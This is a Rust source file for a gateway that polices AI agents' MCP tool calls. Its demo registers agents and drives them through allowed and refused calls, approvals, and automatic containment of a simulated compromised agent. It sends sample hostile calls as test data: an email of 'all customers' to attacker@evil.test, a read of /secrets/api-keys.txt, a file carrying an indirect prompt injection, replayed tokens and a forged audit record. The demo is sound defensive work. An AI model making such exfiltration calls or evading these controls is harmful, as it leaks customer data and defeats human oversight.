//! `warden init` and `warden demo`: the demo starts a real server on SQLite
//! with the built-in onboarding MCP server, registers an agent and a
//! sub-agent, and drives them through allowed and refused calls, then shows
//! the audit log catching a tampered record.

use anyhow::{Context, Result, bail, ensure};
use serde_json::{Value, json};
use std::path::{Path, PathBuf};
use warden_client::{AgentClient, Reply};
use warden_core::clock::{now_ms, now_secs};
use warden_core::{ActionClass, Agent, AgentId, AgentStatus, Autonomy, Sensitivity, ToolRef};
use warden_identity::{AccessClaims, Actor, Confirmation, Keypair, make_dpop_proof};
use warden_server::ServerConfig;
use warden_store::RevocationKind;

pub const POLICY_FILES: &[(&str, &str)] = &[
    ("schema.cedarschema", include_str!("../../../policies/schema.cedarschema")),
    ("base.cedar", include_str!("../../../policies/base.cedar")),
    ("guardrails.cedar", include_str!("../../../policies/guardrails.cedar")),
    ("tests/guardrails.toml", include_str!("../../../policies/tests/guardrails.toml")),
];

const CONFIG: &str = r#"# Warden configuration. Relative paths are relative to this file.
data_dir = "warden-data"
# Several replicas: share one PostgreSQL (and the gateway key in data_dir).
# Passwords go in WARDEN_DATABASE_URL, PGPASSWORD or a pgpass file, never here.
# database_url = "postgres://warden@db.internal/warden"
listen = "127.0.0.1:8700"
# public_url = "https://warden.example.com"   # what agents use; the token audience is PUBLIC_URL/mcp
trust_domain = "warden.local"
policy_dir = "policies"
token_ttl_secs = 300

# Upstream MCP servers. Tools appear to agents as SERVER__TOOL once an
# operator has classified and approved them (`warden tool approve SERVER/TOOL`).
[[upstream]]
name = "onboarding"
transport = "stdio"
command = "warden"
args = ["demo-server"]

# Calls that an @approval policy holds for a human (`warden approvals ...`).
[approvals]
hold_secs = 55              # the agent's request waits this long; then "pending, repeat once approved"
expire_secs = 900           # no decision by then = deny
# webhook_url = "https://chatops.example.com/warden"        # POST each request (approve/deny links inside)
# webhook_secret_env = "WARDEN_APPROVAL_WEBHOOK_SECRET"     # HMAC-SHA256 signature header from this env var

# Optional OpenTelemetry export (OTLP/HTTP JSON): one span per tools/call,
# one log record per audit record.
# [telemetry]
# otlp_traces_url = "http://otel-collector:4318/v1/traces"
# otlp_logs_url = "http://otel-collector:4318/v1/logs"

# Egress proxy for agents' direct HTTP(S) calls (token: resource=PUBLIC_URL/egress).
# [egress]
# listen = "127.0.0.1:8701"
# [[egress.allow]]
# agent = "onboarding-bot"
# host = "api.example.com"
# port = 443

# Signed Merkle checkpoints of the audit log (C2SP signed notes) to publish.
[audit]
checkpoint_secs = 60        # 0 = only on demand (`warden audit checkpoint`)
# publish_checkpoints_to = "/mnt/audit-witness/warden"  # outside the database; `audit verify` then requires the newest

# Monitoring: per-agent baselines, risk score (0-100), session taint,
# automatic containment, rate limits and impact caps.
[monitor]
contain_at = 90             # contain (suspend, revoke tokens) at this risk; 0 = off
risk_half_life_secs = 600
[monitor.learning]
min_calls = 200             # a baseline is trusted after this many calls
min_secs = 86400            # over at least this long; conservative fixed rules until then
cold_calls_per_minute = 60

# Caps sit above the approval rules in policies/guardrails.cedar (one approver
# above 1000, two above 10000), so every payment the rules cover can reach its
# approvers. A call is checked against the cap before policy (no one is asked
# to approve a payment the cap would refuse) and counted when it is forwarded;
# an approval does not lift a cap. A negative or non-numeric amount is refused.
[[monitor.limit]]
name = "payments-per-day"
metric = "amount"           # calls | records | amount | bytes_out
max = 100000
window_secs = 86400
tools = ["onboarding/payment_transfer"]
per = ["agent"]             # agent | tool | task; [] = one budget shared by all

# [[upstream]]
# name = "files"
# transport = "stdio"
# command = "python3"
# args = ["/srv/tools/files/server.py"]
# [upstream.sandbox]          # Landlock + seccomp + rlimits (Linux): no network, nothing outside these trees
# write = ["/srv/tools/files"]

# [[upstream]]
# name = "crm"
# transport = "http"
# url = "https://crm.internal.example/mcp"
# headers_from_env = { Authorization = "CRM_API_TOKEN" }   # injected by the gateway; agents never see it
# headers_from_file = { X-Api-Key = "/run/secrets/crm-key" }  # re-read every second: rotate without a restart
"#;

fn write_policies(dir: &Path) -> Result<()> {
    for (name, text) in POLICY_FILES {
        let p = dir.join(name);
        std::fs::create_dir_all(p.parent().expect("has parent"))?;
        std::fs::write(&p, text).with_context(|| format!("writing {}", p.display()))?;
    }
    Ok(())
}

pub fn init(dir: &Path) -> Result<()> {
    let cfg = dir.join("warden.toml");
    if cfg.exists() {
        bail!("{} already exists; not overwriting it", cfg.display());
    }
    std::fs::create_dir_all(dir)?;
    if dir.join("policies").exists() {
        bail!("{} already exists; not overwriting it", dir.join("policies").display());
    }
    write_policies(&dir.join("policies"))?;
    std::fs::write(&cfg, CONFIG)?;
    println!("wrote {} and {}/policies; next: warden serve --config {}", cfg.display(), dir.display(), cfg.display());
    Ok(())
}

struct Show {
    step: usize,
}

impl Show {
    fn step(&mut self, title: &str) {
        self.step += 1;
        println!("\n[{}] {title}", self.step);
    }
}

fn outcome(r: &Reply) -> String {
    if let Some(res) = r.result() {
        let text = res.get("content").and_then(|c| c.get(0)).and_then(|c| c.get("text")).and_then(Value::as_str).unwrap_or("");
        let text: String = text.chars().take(100).map(|c| if c == '\n' { ' ' } else { c }).collect();
        format!("ALLOWED  (HTTP {}) -> {text}", r.status)
    } else {
        format!("REFUSED  (HTTP {}) -> {}", r.status, r.error_message().unwrap_or("?"))
    }
}

pub async fn run(dir: Option<PathBuf>) -> Result<()> {
    let base = match dir {
        Some(d) => {
            ensure!(!d.join("warden-data").exists(), "{} already holds a demo; pick an empty directory", d.display());
            std::fs::create_dir_all(&d)?;
            d
        }
        None => {
            let d = std::env::temp_dir().join(format!("warden-demo-{}-{}", std::process::id(), now_secs()));
            std::fs::create_dir_all(&d)?;
            d
        }
    };
    write_policies(&base.join("policies"))?;
    let exe = std::env::current_exe()?.display().to_string();
    let cfg_text = CONFIG.replace("listen = \"127.0.0.1:8700\"", "listen = \"127.0.0.1:0\"").replace("command = \"warden\"", &format!("command = {exe:?}"));
    std::fs::write(base.join("warden.toml"), &cfg_text)?;
    let cfg = ServerConfig::load(&base.join("warden.toml"))?;
    println!("Warden demo — data directory {}", base.display());
    let mut s = Show { step: 0 };

    s.step("Start the gateway (SQLite registry, Cedar policies, built-in onboarding MCP server over stdio)");
    let running = warden_server::start(cfg.clone()).await?;
    let gw = running.gateway.clone();
    let store = gw.store.clone();
    println!("    gateway at {}/mcp", running.public_url);

    s.step("Operator classifies and pins the tools the gateway discovered upstream");
    // (name, sensitivity, action class, exfil-capable, untrusted content)
    let classes = [
        ("customer_lookup", Sensitivity::Medium, ActionClass::Read, false, false),
        ("db_query", Sensitivity::High, ActionClass::Read, false, false),
        ("email_send", Sensitivity::Medium, ActionClass::Write, true, false),
        ("payment_transfer", Sensitivity::High, ActionClass::Financial, false, false),
        // The onboarding share holds partner-editable files.
        ("file_read", Sensitivity::Medium, ActionClass::Read, false, true),
    ];
    for (name, sens, action, exfil, untrusted) in classes {
        let tref = ToolRef::new("onboarding", name)?;
        let mut t = store.get_tool(&tref).await.with_context(|| format!("the gateway did not observe {tref}"))?;
        t.sensitivity = sens;
        t.action_class = action;
        t.exfil_capable = exfil;
        t.untrusted_content = untrusted;
        store.upsert_tool(&t).await?;
        let t = store.approve_tool(&tref, false).await?;
        println!("    {tref:<30} {sens:<7} {action:<10} pinned {}", &t.pinned_hash.unwrap_or_default()[..16]);
    }

    s.step("Register an agent (own Ed25519 key, human owner, purpose, allowed tools, autonomy 2) and a sub-agent");
    let bot_key = Keypair::generate();
    let helper_key = Keypair::generate();
    let bot_id = AgentId::new(&cfg.trust_domain, "onboarding-bot")?;
    let helper_id = AgentId::new(&cfg.trust_domain, "email-helper")?;
    let tools = |names: &[&str]| names.iter().map(|n| ToolRef::new("onboarding", n)).collect::<Result<Vec<_>, _>>();
    store
        .insert_agent(&Agent {
            id: bot_id.clone(),
            owner: "alice@example.com".into(),
            purpose: "onboard new customers".into(),
            tools: tools(&["customer_lookup", "db_query", "email_send", "file_read"])?,
            autonomy: Autonomy::try_from(2)?,
            status: AgentStatus::Active,
            public_key: warden_identity::AgentKey::from(bot_key.public()).to_registry(),
            token_binding: warden_core::TokenBinding::Dpop,
            parent: None,
            created_at: now_secs(),
        })
        .await?;
    store
        .insert_agent(&Agent {
            id: helper_id.clone(),
            owner: "alice@example.com".into(),
            purpose: "draft and send onboarding emails".into(),
            tools: tools(&["email_send"])?,
            autonomy: Autonomy::try_from(2)?,
            status: AgentStatus::Active,
            public_key: warden_identity::AgentKey::from(helper_key.public()).to_registry(),
            token_binding: warden_core::TokenBinding::Dpop,
            parent: Some(bot_id.clone()),
            created_at: now_secs(),
        })
        .await?;
    gw.refresh().await?;
    println!("    {bot_id} (owner alice@example.com)\n    {helper_id} (sub-agent of onboarding-bot)");

    s.step("Agent gets a 5-minute DPoP-bound token for one task (private_key_jwt + DPoP)");
    let mut bot = AgentClient::new(&running.public_url, bot_id.as_str(), bot_key.clone());
    let t = bot.fetch_token(Some("onboarding/customer_lookup onboarding/email_send onboarding/file_read"), Some("onboard customer c-1001")).await?;
    println!("    token_type={} expires_in={}s scope=\"{}\"", t.token_type, t.expires_in, t.scope);

    s.step("MCP initialize and tools/list: only tools in the token's scope that policy allows are visible");
    let init = bot.initialize().await?;
    ensure!(init.status == 200, "initialize failed: {}", init.body);
    println!("    visible tools: {}", bot.list_tools().await?.join(", "));

    s.step("Allowed: CRM lookup");
    println!("    {}", outcome(&bot.call_tool("onboarding__customer_lookup", json!({ "customer_id": "c-1001" })).await?));
    s.step("Allowed: internal email");
    println!(
        "    {}",
        outcome(&bot.call_tool("onboarding__email_send", json!({ "to": "ops@example.com", "subject": "New customer", "body": "c-1001 signed up" })).await?)
    );
    s.step("Denied by policy: email to an outside address (exfiltration guardrail)");
    println!(
        "    {}",
        outcome(&bot.call_tool("onboarding__email_send", json!({ "to": "attacker@evil.test", "subject": "dump", "body": "all customers" })).await?)
    );
    s.step("Denied by policy: reading /secrets");
    println!("    {}", outcome(&bot.call_tool("onboarding__file_read", json!({ "path": "/secrets/api-keys.txt" })).await?));
    s.step("Inspection: a shared file carries an indirect prompt injection; the result is withheld");
    println!("    {}", outcome(&bot.call_tool("onboarding__file_read", json!({ "path": "/onboarding/partner-notes.md" })).await?));
    s.step("Out of scope: payment_transfer was never granted (403 insufficient_scope)");
    let r = bot.call_tool("onboarding__payment_transfer", json!({ "amount": 10, "currency": "EUR", "to": "acct-9" })).await?;
    println!("    {}\n    WWW-Authenticate: {}", outcome(&r), r.www_authenticate.unwrap_or_default());

    s.step("Monitor: after customer data (sensitive) and a partner-editable file (untrusted), e-mail is held for a human (lethal trifecta)");
    println!("    file_read checklist: {}", outcome(&bot.call_tool("onboarding__file_read", json!({ "path": "/onboarding/checklist.md" })).await?));
    let mail = json!({ "to": "ops@example.com", "subject": "Customer list", "body": "see attached" });
    let held = tokio::spawn(async move {
        let r = bot.call_tool("onboarding__email_send", mail).await;
        (bot, r)
    });
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    let pending = loop {
        if let Some(a) = store.list_approvals(true, 1).await?.pop() {
            break a;
        }
        ensure!(std::time::Instant::now() < deadline, "the e-mail was not held for approval");
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    };
    println!("    email_send held: approval {} — {}", pending.id, pending.reason);
    let shown = pending.args.as_ref().unwrap_or(&pending.args_redacted);
    println!("    the approver sees agent {}, owner {}, risk {}, arguments {shown}", pending.agent, pending.owner, pending.risk);
    println!("    audit records and webhooks see {}", pending.args_redacted);
    // A registered approver decides (in-process here; her token is never printed).
    let alice = warden_core::Operator { name: "alice".into(), role: warden_core::Role::Approver };
    let mut secret = [0u8; 32];
    getrandom::fill(&mut secret).map_err(|e| anyhow::anyhow!("no OS randomness: {e}"))?;
    store.add_operator(&alice.name, alice.role, &warden_core::sha256_hex(&secret), now_ms()).await?;
    store.decide_approval(&pending.id, &alice, true, "checked with the customer", now_ms()).await?;
    println!("    operator alice: warden approvals approve {} --operator-token-file alice.token", pending.id);
    let (b, r) = held.await?;
    bot = b;
    println!("    email_send:          {}", outcome(&r?));

    s.step("Automatic containment: a compromised agent bursts through the CRM; its risk crosses 90 and it is suspended before its next call");
    let rogue_key = Keypair::generate();
    let rogue_id = AgentId::new(&cfg.trust_domain, "crm-sync")?;
    store
        .insert_agent(&Agent {
            id: rogue_id.clone(),
            owner: "bob@example.com".into(),
            purpose: "sync CRM records nightly".into(),
            tools: tools(&["customer_lookup"])?,
            autonomy: Autonomy::try_from(1)?,
            status: AgentStatus::Active,
            public_key: warden_identity::AgentKey::from(rogue_key.public()).to_registry(),
            token_binding: warden_core::TokenBinding::Dpop,
            parent: None,
            created_at: now_secs(),
        })
        .await?;
    gw.refresh().await?;
    let mut rogue = AgentClient::new(&running.public_url, rogue_id.as_str(), rogue_key);
    rogue.fetch_token(None, Some("nightly sync")).await?;
    rogue.initialize().await?;
    let (mut n, mut risky) = (0, None);
    let stopped = loop {
        n += 1;
        let r = rogue.call_tool("onboarding__customer_lookup", json!({ "customer_id": "c-1002" })).await?;
        if r.result().is_none() {
            if r.error_message().is_some_and(|m| m.contains("contained")) {
                break r;
            }
            risky.get_or_insert((n, outcome(&r)));
        }
        ensure!(n < 1000, "the burst was not contained");
    };
    if let Some((i, o)) = risky {
        println!("    call {i}: {o}");
    }
    println!("    call {n}: {}", outcome(&stopped));
    let next = rogue.call_tool("onboarding__customer_lookup", json!({ "customer_id": "c-1001" })).await?;
    println!("    call {}: {}", n + 1, outcome(&next));
    let in_force = gw.containment_timings().in_force_us.back().copied().unwrap_or_default();
    println!("    kill switch in force {in_force} µs after the trigger; `warden kill list` shows it, only an operator lifts it");

    s.step("Sub-agent exchanges the parent's token (RFC 8693): attenuated scope, act chain");
    let mut helper = AgentClient::new(&running.public_url, helper_id.as_str(), helper_key.clone());
    let ht = helper.exchange(bot.token.as_deref().expect("token"), None, None).await?;
    println!("    sub-agent scope=\"{}\" expires_in={}s", ht.scope, ht.expires_in);
    helper.initialize().await?;
    println!(
        "    email_send:      {}",
        outcome(&helper.call_tool("onboarding__email_send", json!({ "to": "ops@example.com", "subject": "hi", "body": "welcome" })).await?)
    );
    println!("    customer_lookup: {}", outcome(&helper.call_tool("onboarding__customer_lookup", json!({ "customer_id": "c-1001" })).await?));

    s.step("Expired token: signed by the gateway key but past its exp");
    let expired = AccessClaims {
        iss: running.public_url.clone(),
        sub: "alice@example.com".into(),
        aud: gw.config.resource.clone(),
        exp: now_secs() - 1,
        iat: now_secs() - 301,
        nbf: now_secs() - 301,
        jti: "demo-expired".into(),
        client_id: bot_id.to_string(),
        scope: "onboarding/customer_lookup".into(),
        act: Actor { sub: bot_id.to_string(), act: None },
        cnf: Some(Confirmation::key(bot_key.public().kid())),
        task: "onboard customer c-1001".into(),
        chain: vec![],
        fed: None,
        auth_time: None,
    };
    let expired = running.issuer.issue(&expired);
    let proof = make_dpop_proof(&bot_key, "POST", &bot.mcp_url(), Some(&expired), now_secs());
    let body = json!({ "jsonrpc": "2.0", "id": 99, "method": "tools/list" }).to_string().into_bytes();
    let r = bot.post_raw(body, Some(format!("DPoP {expired}")), Some(proof)).await?;
    println!("    {}", outcome(&r));

    s.step("Replayed DPoP proof: the same proof sent twice");
    let proof = bot.proof("POST");
    let auth = format!("DPoP {}", bot.token.as_deref().expect("token"));
    let body = || json!({ "jsonrpc": "2.0", "id": 100, "method": "tools/list" }).to_string().into_bytes();
    let first = bot.post_raw(body(), Some(auth.clone()), Some(proof.clone())).await?;
    let second = bot.post_raw(body(), Some(auth), Some(proof)).await?;
    println!("    first use:  HTTP {}\n    replay:     {}", first.status, outcome(&second));

    s.step("Operator revokes the task: the agent's and sub-agent's tokens die before their next call");
    store.revoke(RevocationKind::Task, "onboard customer c-1001", "demo: task finished", now_secs()).await?;
    gw.refresh().await?;
    println!("    agent:     {}", outcome(&bot.call_tool("onboarding__customer_lookup", json!({ "customer_id": "c-1002" })).await?));
    println!("    sub-agent: {}", outcome(&helper.call_tool("onboarding__email_send", json!({ "to": "ops@example.com", "subject": "x", "body": "y" })).await?));

    s.step("Audit: every decision above is in a hash-chained log signed with the gateway key");
    let key = running.issuer.public_key();
    let report = crate::audit_cmd::verify_store(&store, &key).await?.map_err(|e| anyhow::anyhow!("{e}"))?;
    println!("    verify: OK — {} records, head {}…", report.records, &report.head.hash[..16]);
    let signing_key = warden_server::load_or_create_key(&cfg.key_path())?;
    let cp = store.make_checkpoint(&signing_key, &cfg.audit_origin(), now_ms()).await?.context("the log has records")?;
    println!("    signed checkpoint to publish elsewhere (C2SP signed note, RFC 9162 Merkle root):");
    for line in cp.note.lines() {
        println!("      {line}");
    }
    let recs = store.read_audit(0, 1000).await?;
    let victim = recs
        .into_iter()
        .filter_map(Result::ok)
        .find(|r| r.event.decision == warden_core::Verdict::Deny && r.event.reason.as_deref().is_some_and(|x| x.contains("outside example.com")))
        .context("the denied email is audited")?;
    println!(
        "    record {}: {} {} -> {}",
        victim.seq,
        victim.event.tool.as_deref().unwrap_or("-"),
        victim.event.decision,
        victim.event.reason.as_deref().unwrap_or("")
    );
    let mut forged = victim.clone();
    forged.event.decision = warden_core::Verdict::Allow;
    forged.event.reason = None;
    store.overwrite_audit_row(victim.seq, &serde_json::to_string(&forged)?).await?;
    println!("    an attacker with database access rewrites record {} to say \"allow\"…", victim.seq);
    match crate::audit_cmd::verify_store(&store, &key).await? {
        Err(e) => println!("    verify: FAILED — {e}"),
        Ok(_) => bail!("tampering was not detected"),
    }
    println!("\nDemo complete. Explore it: warden --config {} audit tail", base.join("warden.toml").display());
    running.task.abort();
    Ok(())
}
